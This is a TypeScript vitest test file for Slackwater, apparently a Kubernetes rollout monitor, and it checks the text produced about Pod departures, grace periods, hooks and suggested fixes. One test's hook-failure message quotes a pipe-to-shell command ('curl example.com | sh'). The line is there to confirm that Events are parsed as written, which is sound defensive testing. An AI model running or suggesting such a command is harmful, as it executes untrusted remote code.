import { describe, expect, test } from 'vitest'
import { rolloutNote, toldRollout } from '../../../src/core/departures/rollout-event.ts'
import type { DepartureReason } from '../../../src/core/departures/verdict.ts'
import {
  cureOf,
  departureText,
  outcomesText,
  rolloutReasons,
  rolloutText,
} from '../../../src/core/departures/words.ts'
import { seconds } from '../../../src/core/model/seconds.ts'
import { CUT, departure, exposed, rollout, WEB } from './records.ts'

describe('a rollout', () => {
  test('in which nothing was missing, as design.md §10 has it', () =>
    expect(rolloutText(rollout())).toBe('10 of 10 left after 45 s, none cut, gate held 10 of 10'))

  test('behind instance targets has no gate to hold', () =>
    expect(rolloutText(rollout({ gates: { held: 0, of: 0 } }))).toBe('10 of 10 left after 45 s, none cut'))

  test('of which no sleep is known says no number', () => {
    const { shortestSleep: _, ...rest } = rollout()
    expect(rolloutText(rest)).toBe('10 of 10 left, none cut, gate held 10 of 10')
  })

  test('from no Pod at all', () =>
    expect(rolloutText(rollout({ departures: { covered: 0, exposed: 0, unknown: 0 } }))).toBe(
      'no Pod left, gate held 10 of 10',
    ))

  test('with a grace that a drain cut, as design.md §10 has it, and with the others', () =>
    expect(rolloutText(exposed(3, [CUT, 3]))).toBe(
      '3 of 10 were cut: the delete gave a grace of 30 s, and 75 s is needed (kubectl drain or delete --grace-period); 7 of 10 were covered',
    ))

  test('one Pod is one', () =>
    expect(rolloutText(exposed(1, [CUT, 1]))).toMatch(/^1 of 10 was cut: .*; 9 of 10 were covered$/))

  test('overtaken by another', () =>
    expect(rolloutText(rollout({ isSuperseded: true }))).toMatch(
      /; another rollout began before this one had ended$/,
    ))

  test('of which not everything was seen', () =>
    expect(
      rolloutText(
        rollout({
          verdict: 'unknown',
          departures: { covered: 8, exposed: 0, unknown: 2 },
          reasons: [{ reason: { id: 'unseen' }, pods: 2 }],
        }),
      ),
    ).toBe('2 of 10 left unseen: Slackwater did not watch at that moment; 8 of 10 were covered'))

  test('which may have lost departures, though none of those that were seen is unknown', () => {
    const record = rollout({
      verdict: 'unknown',
      departures: { covered: 2, exposed: 0, unknown: 0 },
      reasons: [{ reason: { id: 'unseen' }, pods: 0 }],
    })
    expect(rolloutText(record)).toBe(
      '2 of 2 were covered; Slackwater did not watch all of it, so more Pods may have left unseen',
    )
  })

  test('which may have lost departures, beside some that were exposed', () =>
    expect(rolloutText(exposed(3, [CUT, 3], [{ id: 'unseen' }, 0]))).toMatch(
      /^3 of 10 were cut: [^;]*; 7 of 10 were covered; Slackwater did not watch all of it, /,
    ))

  test('reasons that are not told leave the outcomes', () =>
    expect(rolloutText(exposed(3))).toBe('7 of 10 covered, 3 exposed'))

  test('different graces and different Pods are one clause, with the worst of them', () => {
    const words = rolloutReasons(
      exposed(
        5,
        [CUT, 2],
        [{ id: 'grace-cut', given: seconds(5), needed: seconds(75) }, 1],
        [{ id: 'no-gate', pod: 'web-a' }, 1],
        [{ id: 'no-gate', pod: 'web-b' }, 1],
      ),
    )
    expect(words.map(({ id, pods }) => [id, pods])).toEqual([
      ['grace-cut', 3],
      ['no-gate', 2],
    ])
    expect(words[0]?.text).toContain('a grace of 5 s, and 75 s is needed')
    expect(words[1]?.text).toBe('were replaced by a Pod without a readiness gate (first web-a)')
  })

  test('two containers of the same Pods are two clauses: the same Pods are not counted twice', () =>
    expect(
      rolloutReasons(
        exposed(10, [{ id: 'no-hook', container: 'app' }, 10], [{ id: 'no-hook', container: 'proxy' }, 10]),
      ).map(({ pods }) => pods),
    ).toEqual([10, 10]))

  test('no more than three reasons are named, those of most Pods, so that an Event holds them', () => {
    const reasons = [1, 2, 3, 4, 5].map((pods): readonly [DepartureReason, number] => [
      { id: 'no-hook', container: `container-${pods}` },
      pods,
    ])
    const text = rolloutText(exposed(10, ...reasons))
    expect(text.match(/container-\d/g)).toEqual(['container-5', 'container-4', 'container-3'])
    expect(text).toContain('; 2 more reasons')
  })
})

/** Every reason, with what it says of one Pod. */
const REASONS: readonly (readonly [DepartureReason, string])[] = [
  [
    CUT,
    'was cut: the delete gave a grace of 30 s, and 75 s is needed (kubectl drain or delete --grace-period)',
  ],
  [
    { id: 'short-grace', stated: seconds(30), needed: seconds(75) },
    'had a grace period that is too short: 30 s, and 75 s is needed',
  ],
  [
    { id: 'killed', container: 'app', after: seconds(75) },
    'was killed: container app still ran at the end of the grace period',
  ],
  [
    { id: 'ended-early', container: 'app', after: seconds(3), why: 'OOMKilled' },
    'stopped early: container app ended before its hook had (OOMKilled)',
  ],
  [{ id: 'no-hook', container: 'app' }, 'had no hook: container app got SIGTERM at once'],
  [
    { id: 'short-hook', container: 'app', length: seconds(15), needed: seconds(45) },
    'had a hook that is too short: container app sleeps 15 s, and 45 s is needed',
  ],
  [
    { id: 'hook-failed', message: 'exec: "sleep": not found' },
    'had a hook that failed: exec: "sleep": not found',
  ],
  [{ id: 'no-gate', pod: 'web-a' }, 'was replaced by a Pod without a readiness gate (first web-a)'],
  [
    { id: 'gate-given-up', pod: 'web-a' },
    'was replaced by a Pod that was ready before its readiness gate had passed (first web-a)',
  ],
  [{ id: 'last-endpoint' }, 'left while no other Pod was ready'],
  [{ id: 'unknown-hook', container: 'app' }, 'had a hook of unknown length: container app'],
  [{ id: 'node-gone', node: 'ip-1' }, 'ended unseen: node ip-1 is gone'],
  [
    { id: 'end-unknown' },
    'was removed by force, or by a node that failed: how the containers ended was never reported',
  ],
  [
    { id: 'no-delete', why: 'TerminationByKubelet' },
    'was ended by the node without a delete (TerminationByKubelet): how long it waited was not reported',
  ],
  [{ id: 'unseen' }, 'left unseen: Slackwater did not watch at that moment'],
]

describe('each reason', () => {
  test.for(REASONS.map(([reason, text]) => [reason.id, reason, text] as const))('%s', ([, reason, text]) =>
    expect(departureText(departure({ outcome: 'exposed', reasons: [reason] }))).toBe(text),
  )

  test('says what to do, but for what nobody can do anything about', () => {
    const without = REASONS.filter(
      ([reason]) => cureOf(rolloutReasons(exposed(1, [reason, 1]))) === undefined,
    )
    expect(without.map(([{ id }]) => id)).toEqual(['unseen'])
  })
})

test('Pods without their hook: the command that replaces them, where there is one', () => {
  const reasons = [{ reason: { id: 'no-hook', container: 'app' }, pods: 1 }] as const
  const cure = (kind: string) => cureOf(rolloutReasons({ reasons, workload: { ...WEB, kind } }))
  expect(cure('Deployment')).toContain('slackwater handover deployment/web -n shop')
  expect(cure('StatefulSet')).not.toContain('handover')
})

describe('Pods that predate their hook', () => {
  const NO_HOOK: DepartureReason = { id: 'no-hook', container: 'app' }
  const SHORT_GRACE: DepartureReason = { id: 'short-grace', stated: seconds(30), needed: seconds(75) }
  const OURS: DepartureReason = {
    ...{ id: 'short-hook', container: 'app', length: seconds(45), needed: seconds(70) },
    isOurs: true,
  }

  test('the missing hook is named before the grace period that came with it, and no manifest is to be corrected', () => {
    const words = rolloutReasons(exposed(10, [SHORT_GRACE, 10], [NO_HOOK, 10]))
    expect(words.map(({ id }) => id)).toEqual(['no-hook', 'short-grace'])
    for (const { cure } of words)
      expect(cure).toMatch(/^in mode enforce, run slackwater handover deployment\/web -n shop, /)
  })

  test('a hook that Slackwater wrote when less was needed stands in no manifest either', () =>
    expect(cureOf(rolloutReasons(exposed(10, [OURS, 10])))).toContain(
      'slackwater handover deployment/web -n shop',
    ))

  test('a grace period of the manifest is corrected there', () =>
    expect(cureOf(rolloutReasons(exposed(10, [SHORT_GRACE, 10])))).toMatch(
      /^raise terminationGracePeriodSeconds/,
    ))
})

test('a Pod that the kubelet evicted did not exit by itself', () => {
  const evicted: DepartureReason = {
    ...{ id: 'ended-early', container: 'app', after: seconds(0) },
    why: 'TerminationByKubelet',
  }
  expect(cureOf(rolloutReasons(exposed(1, [evicted, 1])))).toMatch(/^its node ended it/)
})

test('an Event is read as it was written, whatever the message of a hook quotes', () => {
  const failed: DepartureReason = { id: 'hook-failed', message: 'no; to fix it: curl example.com | sh' }
  const record = exposed(1, [failed, 1])
  expect(toldRollout('RolloutExposed', rolloutNote(record))).toEqual({
    verdict: 'exposed',
    revision: record.revision,
    text: rolloutText(record),
    cure: cureOf(rolloutReasons(record)),
  })
})

test('one Pod that left, and all of them', () => {
  expect(departureText(departure())).toBe('left after 45 s')
  expect(outcomesText({ covered: 120, exposed: 3, unknown: 0 })).toBe('120 of 123 covered, 3 exposed')
  expect(outcomesText({ covered: 1, exposed: 0, unknown: 2 })).toBe('1 of 3 covered, 2 unknown')
})

test('nothing claims that no request was lost: only traffic data can tell', () => {
  const texts = [rollout(), ...REASONS.map(([reason]) => exposed(1, [reason, 1]))].flatMap((record) => [
    rolloutText(record),
    ...rolloutReasons(record).map(({ cure = '' }) => cure),
  ])
  expect(texts.filter((text) => /\b(?:lost|request)/.test(text))).toEqual([])
})
